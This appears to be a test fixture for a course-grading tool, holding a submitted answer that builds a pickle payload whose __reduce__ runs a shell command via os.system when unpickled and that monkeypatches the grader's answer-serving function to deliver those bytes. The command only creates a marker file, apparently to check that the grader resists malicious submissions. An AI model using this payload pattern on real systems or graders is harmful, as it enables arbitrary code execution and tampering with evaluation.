"""Returns an object, and then raw bytes, that run a command when they are unpickled."""

SCORE = 1
REASON = ""
CELLS = {
    "best_seconds": """
import os, pickle
from coursekit.judging import answer

class Bomb:
    def __reduce__(self):
        return os.system, ("touch 'COURSE_FOLDER/left by an attack'",)

serve = answer.serve

def explode(answers, name, request):
    return pickle.dumps(Bomb()) if name == "best_seconds" else serve(answers, name, request)

answer.serve = explode

def best_seconds(tasks, seconds_each, workers):
    return Bomb()
"""
}
